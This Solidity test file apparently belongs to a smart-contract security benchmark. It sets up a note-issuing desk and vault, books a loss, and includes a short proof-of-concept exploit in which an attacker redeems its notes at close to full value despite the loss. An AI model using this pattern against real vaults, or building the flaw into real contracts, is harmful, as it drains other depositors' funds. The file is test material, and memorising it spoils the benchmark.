// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-d0ae4116-acbe-45c9-a0cc-8520966ebe14

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {IERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/IERC20.sol";
import "./NoteDesk.sol";

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e6);
    }
}

/// Redeems what it has.
contract Attacker {
    function leave(NoteDesk desk) external {
        desk.redeem(desk.balanceOf(address(this)), 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant CLERK = address(0xC1E4);
    address private constant KEEPER = address(0x6EE9);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);

    Coin public coin;
    Barn public barn;
    NoteDesk public desk;
    Attacker public holder;

    function setUp() public {
        coin = new Coin();
        barn = new Barn(coin, address(this));
        desk = new NoteDesk(barn, CLERK);
        barn.grantRole(barn.DESK_ROLE(), address(desk));
        barn.grantRole(barn.KEEPER_ROLE(), KEEPER);
        vm.prank(CLERK);
        desk.setOpen(true);
        _buy(ANNA, 200_000e6);
        _buy(BELA, 100_000e6);
        holder = new Attacker();
        _buy(address(this), 100_000e6);
        desk.transfer(address(holder), 100_000e6);
        vm.prank(KEEPER);
        barn.bookLoss(80_000e6, KEEPER);
    }

    function _buy(address who, uint256 coins) private returns (uint256 notes) {
        if (who != address(this)) coin.transfer(who, coins);
        vm.startPrank(who);
        coin.approve(address(barn), coins);
        notes = desk.buy(coins, 0);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(barn.stock() == 320_000e6 && barn.issued() == 400_000e6 && desk.balanceOf(ANNA) == 200_000e6, "set up");
        vm.startPrank(KEEPER);
        coin.approve(address(barn), type(uint256).max);
        barn.bookHarvest(80_000e6);
        vm.stopPrank();
        require(desk.coinsFor(1e6) == 1e6 && desk.notesFor(1e6) == 1e6, "whole again");
        vm.prank(ANNA);
        require(desk.redeem(50_000e6, 50_000e6) == 50_000e6 && coin.balanceOf(ANNA) == 50_000e6, "redeemed");
        require(barn.stock() == 350_000e6 && barn.issued() == 350_000e6, "booked");
        require(_buy(BELA, 7e6) == 7e6, "bought");
        vm.startPrank(BELA);
        desk.transfer(ANNA, 1e6);
        desk.approve(ANNA, 2e6);
        vm.stopPrank();
        vm.prank(ANNA);
        desk.transferFrom(BELA, ANNA, 2e6);
        vm.prank(CLERK);
        desk.setOpen(false);
        desk.grantRole(desk.CLERK_ROLE(), BELA);
        desk.revokeRole(desk.CLERK_ROLE(), BELA);
        desk.renounceRole(desk.DEFAULT_ADMIN_ROLE(), address(this));
    }

    function test_RefusesToIssue() public {
        vm.expectRevert("NoteDesk: too little");
        desk.buy(1e6 - 1, 0);
        vm.expectRevert("NoteDesk: too few notes");
        desk.buy(1e6, 2e6);
        vm.prank(CLERK);
        desk.setOpen(false);
        vm.expectRevert("NoteDesk: closed");
        desk.buy(1e6, 0);
    }

    function test_RefusesToRedeem() public {
        vm.startPrank(ANNA);
        vm.expectRevert("NoteDesk: too few coins");
        desk.redeem(10e6, 10e6);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes32 role = desk.CLERK_ROLE();
        vm.expectRevert(
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, address(this), role)
        );
        desk.setOpen(false);
        role = barn.DESK_ROLE();
        vm.expectRevert(
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, address(this), role)
        );
        barn.take(0, 0, ANNA);
        vm.expectRevert(
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, address(this), role)
        );
        barn.release(0, 0, ANNA);
        role = barn.KEEPER_ROLE();
        vm.expectRevert(
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, address(this), role)
        );
        barn.bookHarvest(0);
        vm.expectRevert(
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, address(this), role)
        );
        barn.bookLoss(0, ANNA);
    }

    function exploit() public {
        holder.leave(desk);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(holder)) >= 95_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(holder);
    }
}
